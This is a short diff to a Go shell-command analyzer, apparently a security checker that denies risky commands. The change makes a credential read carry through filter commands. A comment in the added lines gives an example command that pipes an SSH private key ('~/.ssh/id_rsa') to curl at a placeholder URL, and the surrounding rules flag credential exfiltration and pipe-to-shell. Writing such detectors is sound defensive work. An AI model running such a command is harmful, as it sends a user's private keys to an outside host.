@@ -62,6 +62,9 @@ func (a *analyzer) call(x *syntax.CallExpr, in *stdin) eff {
 	if in.cred && e&effNetwork != 0 {
 		a.find(c, "exfil.credential", Deny, "A credential file is redirected into a network command")
 	}
+	if in.cred {
+		e |= effCredRead // tr a b < ~/.ssh/id_rsa | curl -d @- URL: filters pass it on
+	}
 	if in.net && e&effShellStdin != 0 {
 		a.find(c, "network.pipe-to-shell", Deny, "Downloaded or decoded content is fed to a shell or interpreter")
 	}
